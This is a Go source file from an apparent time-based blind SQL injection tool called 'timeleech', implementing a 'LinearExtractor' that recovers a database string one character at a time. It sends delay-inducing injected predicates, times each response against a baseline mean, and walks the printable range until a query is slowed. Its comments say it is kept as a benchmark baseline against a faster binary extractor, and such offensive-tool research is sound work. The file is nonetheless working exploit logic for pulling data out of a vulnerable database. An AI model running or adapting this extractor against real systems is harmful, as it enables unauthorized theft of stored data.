package extract

import (
	"context"
	"fmt"
	"strings"

	"github.com/0x6d61/timeleech/internal/dbms"
	"github.com/0x6d61/timeleech/internal/oracle"
	"github.com/0x6d61/timeleech/internal/payload"
	"github.com/0x6d61/timeleech/internal/stats"
)

// linearBaselineSamples is the baseline size for the threshold decision.
const linearBaselineSamples = 5

// LinearExtractor is the traditional character extractor kept for
// benchmark comparison: it walks the printable range with equality
// predicates, spends a single probe per test, and decides with a fixed
// threshold over the baseline mean instead of a hypothesis test. Same
// inputs, same outputs, far higher query count and error rate.
type LinearExtractor struct {
	prober   *oracle.Prober
	template *payload.Template
	dialect  dbms.Dialect
	target   Target
	delay    float64

	// Trace enables per-decision step records.
	Trace bool

	baseline     []float64
	baselineMean float64

	steps   []Step
	queries int64
}

// NewLinearExtractor creates a LinearExtractor for one target string.
func NewLinearExtractor(prober *oracle.Prober, tpl *payload.Template, dialect dbms.Dialect, target Target, delay float64) *LinearExtractor {
	return &LinearExtractor{
		prober:   prober,
		template: tpl,
		dialect:  dialect,
		target:   target,
		delay:    delay,
	}
}

// ensureBaseline measures the prompt baseline mean once.
func (e *LinearExtractor) ensureBaseline(ctx context.Context) {
	if e.baseline != nil {
		return
	}
	promptPayload := e.template.Instantiate(oracle.FalsePredicate)
	e.baseline = e.prober.Samples(ctx, promptPayload, linearBaselineSamples)
	e.baselineMean, _ = stats.Baseline(e.baseline)
}

// testCondition spends one probe and applies the traditional threshold:
// delayed when the elapsed time exceeds the baseline mean by half the
// configured delay.
func (e *LinearExtractor) testCondition(ctx context.Context, position int, condition string) bool {
	e.ensureBaseline(ctx)

	payloadStr := oracle.BuildPayload(e.template, e.dialect, condition, e.delay)
	elapsed := e.prober.Probe(ctx, payloadStr)
	e.queries++

	decision := elapsed > e.baselineMean+0.5*e.delay
	if e.Trace {
		e.steps = append(e.steps, Step{
			Position:  position,
			Predicate: condition,
			Decision:  decision,
		})
	}
	return decision
}

// ExtractCharacter tests χ(p) = k for every printable k in ascending
// order and returns the first match.
func (e *LinearExtractor) ExtractCharacter(ctx context.Context, position int) (byte, bool) {
	query := e.dialect.SelectScalar(e.target.Table, e.target.Column, e.target.Where)
	chi := e.dialect.CodepointAt(query, position)

	for k := asciiLow; k <= asciiHigh; k++ {
		if ctx.Err() != nil {
			return 0, false
		}
		if e.testCondition(ctx, position, fmt.Sprintf("%s = %d", chi, k)) {
			return byte(k), true
		}
	}
	return 0, false
}

// ExtractString recovers the target string up to maxLength characters
// with the same termination rules as the binary extractor.
func (e *LinearExtractor) ExtractString(ctx context.Context, maxLength int) string {
	var b []byte
	for position := 1; position <= maxLength; position++ {
		ch, ok := e.ExtractCharacter(ctx, position)
		if !ok {
			break
		}
		b = append(b, ch)
		if strings.IndexByte(terminators, ch) >= 0 {
			break
		}
	}
	return strings.TrimRight(string(b), terminators)
}

// Steps returns the recorded decisions. Empty unless Trace is enabled.
func (e *LinearExtractor) Steps() []Step {
	return e.steps
}

// TotalQueries returns the number of probes spent by this extractor.
func (e *LinearExtractor) TotalQueries() int64 {
	return e.queries
}
